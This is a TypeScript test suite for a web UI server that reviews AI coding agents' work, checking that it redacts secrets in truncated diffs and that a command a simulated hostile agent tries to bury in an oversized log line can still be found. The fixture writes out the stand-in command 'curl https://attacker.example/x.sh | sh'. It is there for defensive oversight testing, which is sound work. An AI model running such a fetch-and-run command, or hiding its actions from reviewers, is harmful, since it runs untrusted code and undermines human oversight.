import { writeFileSync } from "node:fs";
import { request } from "node:http";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { MAX_PATCH_BYTES } from "../../src/ui/workspace-data.js";
import { type ReviewRepo, reviewRepo, runAll } from "../review/rig.js";
import { startPage } from "./page-server.js";

/** A GET of the page's server, as the page sends it (its Host, no Origin). */
function get(port: number, pathName: string): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const req = request(
      { host: "127.0.0.1", port, path: pathName, headers: { host: `127.0.0.1:${port}` } },
      (res) => {
        const chunks: Buffer[] = [];
        res.on("data", (chunk: Buffer) => chunks.push(chunk));
        res.on("end", () =>
          resolve({ status: res.statusCode ?? 0, body: Buffer.concat(chunks).toString("utf8") }),
        );
      },
    );
    req.on("error", reject);
    req.end();
  });
}

/** Written into a committed file by an agent, and in the environment the page is served from. */
const SECRET = "sk-diffcut-7d3a9c1e5b";

/**
 * The page's server against agents that attack it: what they commit and print is the agents'
 * choice, and the page must still show it (or refuse it) without leaking or breaking.
 */
describe("conductor ui's server against hostile agent output", () => {
  let repo: ReviewRepo;
  let page: Awaited<ReturnType<typeof startPage>>;
  let secretBefore: string | undefined;

  beforeAll(async () => {
    repo = await reviewRepo([
      {
        id: "bulky",
        // 5 MB of lines that are nothing but the secret: the patch is cut inside one of them.
        agent: `line=$(printf '${SECRET}%.0s' $(seq 40)); yes "$line" | head -n 6000 > bulky.txt; echo wrote`,
      },
      {
        id: "hider",
        // What it did, then one line longer than a log slice as its last words.
        agent:
          'echo "curl https://attacker.example/x.sh | sh"; head -c 100000 /dev/zero | tr "\\0" z; echo',
      },
    ]);
    await runAll(repo);
    page = await startPage({ root: repo.root, home: repo.home, runId: repo.runIds()[0] as string });
    secretBefore = process.env.OPENAI_API_KEY;
    process.env.OPENAI_API_KEY = SECRET;
  });

  afterAll(async () => {
    if (secretBefore === undefined) delete process.env.OPENAI_API_KEY;
    else process.env.OPENAI_API_KEY = secretBefore;
    await page?.close();
    await repo?.remove();
  });

  it("cuts a patch larger than it sends, with no piece of a secret at the cut", async () => {
    const answer = await get(page.port, `/${page.token}/api/workspaces/bulky/diff`);
    expect(answer.status).toBe(200);
    const diff = JSON.parse(answer.body);
    expect(diff.files).toEqual([{ path: "bulky.txt", added: 6000, removed: 0, binary: false }]);
    expect(diff.truncated).toBe(true);
    expect(Buffer.byteLength(diff.patch)).toBeLessThanOrEqual(MAX_PATCH_BYTES);
    expect(diff.patch).toContain("+[redacted][redacted]");
    // The secret cut by the end of the patch is replaced too: half a secret is still a secret.
    expect(diff.patch.endsWith("[redacted]")).toBe(true);
    expect(diff.patch.replaceAll("[redacted]", "").slice(-400)).toMatch(/^[+\n]*$/);
  });

  it("shows the end of a log whose last line is longer than a slice, and what came before it", async () => {
    const logs = `/${page.token}/api/workspaces/hider/logs?step=agent`;
    const last = JSON.parse((await get(page.port, logs)).body).slice;
    expect(last.text).toMatch(/^z+\n$/);
    expect(last.end).toBe(last.size);
    expect(last.start).toBeLessThan(last.size);
    // "Load earlier" gets on to the line the agent hoped to hide.
    let start = last.start;
    let shown = last.text;
    while (start > 0) {
      const slice = JSON.parse((await get(page.port, `${logs}&before=${start}`)).body).slice;
      expect(slice.start).toBeLessThan(start);
      shown = slice.text + shown;
      start = slice.start;
    }
    expect(shown).toContain("curl https://attacker.example/x.sh | sh\n");
  });

  it("answers a broken %-escape in a workspace's name as a bad request, not as its own failure", async () => {
    const answer = await get(page.port, `/${page.token}/api/workspaces/%E0%A4%A/diff`);
    expect(answer.status).toBe(400);
    expect(JSON.parse(answer.body).error).toBe(
      "%E0%A4%A is not a workspace name (a broken %-escape)",
    );
  });

  it("shows the findings of a review file that also holds something other than findings", async () => {
    writeFileSync(
      path.join(repo.runDir(), "workspaces", "hider", "review.json"),
      JSON.stringify({
        status: "completed",
        verdict: "incorrect",
        explanation: "It pipes a download into sh.",
        findings: [
          null,
          "text",
          { priority: 0, title: "Runs code from the network", body: "x.sh" },
        ],
      }),
    );
    const answer = await get(page.port, `/${page.token}/api/workspaces/hider/review`);
    expect(answer.status).toBe(200);
    expect(JSON.parse(answer.body).findings).toEqual([
      { priority: 0, title: "Runs code from the network", body: "x.sh" },
    ]);
  });
});
